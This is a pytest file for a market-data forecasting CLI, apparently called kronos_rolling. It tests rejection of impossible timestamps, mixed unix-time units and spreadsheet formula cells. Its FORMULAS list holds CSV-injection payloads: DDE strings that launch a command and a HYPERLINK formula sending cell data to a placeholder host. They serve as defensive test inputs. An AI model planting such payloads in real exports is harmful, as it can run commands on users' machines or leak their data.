"""The last bad inputs, through the real commands and data store: timestamps pandas cannot hold or
no market produced, unix times in two units, and cells that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import torch
from click.testing import CliRunner

from kronos_rolling.cli.main import main
from kronos_rolling.data.store import DataStore
from kronos_rolling.model.config import MODEL_SIZES
from kronos_rolling.model.kronos import Kronos
from kronos_rolling.model.tokenizer import KronosTokenizer


def invoke(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def hourly_csv(path: Path, rows: int = 60, stamps=None) -> Path:
    start = pd.Timestamp("2020-01-01", tz="UTC")
    lines = ["timestamp,open,high,low,close,volume"]
    for i in range(rows):
        stamp = stamps[i] if stamps is not None else (start + pd.Timedelta(hours=i)).isoformat()
        price = 100 + i
        lines.append(f"{stamp},{price},{price + 1},{price - 1},{price + 0.5},10")
    path.write_text("\n".join(lines) + "\n")
    return path


def test_a_timestamp_pandas_cannot_hold_is_a_row_named_error_in_validate_import_and_forecast(tmp_path):
    stamps = [(pd.Timestamp("2020-01-01", tz="UTC") + pd.Timedelta(hours=i)).isoformat() for i in range(60)]
    stamps[4] = "2300-01-01T00:00:00Z"  # beyond nanoseconds (2262)
    stamps[9] = "2099-01-01T00:00:00Z"  # representable, but no market has produced it yet
    src = hourly_csv(tmp_path / "late.csv", stamps=stamps)
    problems = ("row 5, column 'timestamp': timestamp more than a year after now",
                "row 10, column 'timestamp': timestamp more than a year after now")
    validated = invoke("data", "validate", src)
    imported = invoke("data", "import", src, "--symbol", "BTCUSD", "--data", tmp_path / "store")
    folder = tmp_path / "base"
    torch.manual_seed(0)
    KronosTokenizer.from_config(MODEL_SIZES["tiny"].tokenizer).save_pretrained(folder / "tokenizer")
    Kronos.from_config(MODEL_SIZES["tiny"].predictor).save_pretrained(folder / "predictor")
    forecast = invoke("forecast", "--model", folder / "predictor", "--tokenizer", folder / "tokenizer",
                      "--csv", src, "--pred-len", "2", "--out", tmp_path / "out.csv")
    for result in (validated, imported, forecast):
        assert result.exit_code != 0 and "Traceback" not in result.output and result.exception is not None
        for problem in problems:
            assert problem in result.output, result.output
    assert not (tmp_path / "store" / "BTCUSD.parquet").exists() and not (tmp_path / "out.csv").exists()
    # Left out with --drop-invalid, like any other bad row, and said why.
    dropped = invoke("data", "import", src, "--symbol", "BTCUSD", "--data", tmp_path / "store", "--drop-invalid")
    assert dropped.exit_code == 0, dropped.output
    reasons = pd.read_csv(tmp_path / "store" / "BTCUSD.dropped.csv")
    assert list(reasons["row"]) == [5, 10] and set(reasons["reason"]) == {"timestamp out of range"}


def test_unix_seconds_and_milliseconds_in_one_column_are_refused_by_import_exactly_as_by_validate(tmp_path):
    seconds = [int(pd.Timestamp("2017-07-14", tz="UTC").timestamp()) + 3600 * i for i in range(300)]
    stamps = seconds[:150] + [s * 1000 for s in seconds[150:]]  # rows 151..300 in milliseconds
    src = hourly_csv(tmp_path / "mixed.csv", rows=300, stamps=stamps)
    problem = "row 151, column 'timestamp': unix times in more than one unit"
    validated = invoke("data", "validate", src)
    assert validated.exit_code != 0 and problem in validated.output, validated.output
    assert "first in unix milliseconds (150 row(s)), the column starts in unix seconds (row 1)" in validated.output
    for extra in ([], ["--drop-invalid"]):  # no drop mends it: every row after it is suspect
        imported = invoke("data", "import", src, "--symbol", "BTCUSD", "--data", tmp_path / "store", *extra)
        assert imported.exit_code != 0 and problem in imported.output, imported.output
        assert not (tmp_path / "store" / "BTCUSD.parquet").exists()


FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-2+3+cmd|' /C calc'!A0"]


def test_formula_cells_are_neutralised_in_the_dropped_rows_and_the_report_which_lists_every_dropped_row(tmp_path):
    src = hourly_csv(tmp_path / "bars.csv")
    lines = src.read_text().splitlines()
    for i, formula in enumerate(FORMULAS):  # data rows 3, 5, ...: each a close that is no number
        cells = lines[3 + 2 * i].split(",")
        cells[4] = '"' + formula.replace('"', '""') + '"'
        lines[3 + 2 * i] = ",".join(cells)
    negative = lines[40].split(",")
    negative[3] = "-5"  # a negative low: a plain number, no formula
    lines[40] = ",".join(negative)
    src.write_text("\n".join(lines) + "\n")
    store, report = tmp_path / "store", tmp_path / "report.csv"
    result = invoke("data", "import", src, "--symbol", "BTCUSD", "--data", store, "--drop-invalid",
                    "--report", report)
    assert result.exit_code == 0, result.output
    with open(store / "BTCUSD.dropped.csv", newline="") as handle:
        dropped = list(csv.DictReader(handle))
    assert [row["close"] for row in dropped[:-1]] == ["'" + formula for formula in FORMULAS]
    assert dropped[-1]["low"] == "-5" and dropped[-1]["reason"] == "non-positive price"
    with open(report, newline="") as handle:
        listed = list(csv.DictReader(handle))
    assert sorted(int(row["row"]) for row in listed) == sorted(int(row["row"]) for row in dropped)
    for row in listed:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not cell.startswith("-2"), row
    assert DataStore(store).load("BTCUSD").shape[0] == 60 - len(dropped)
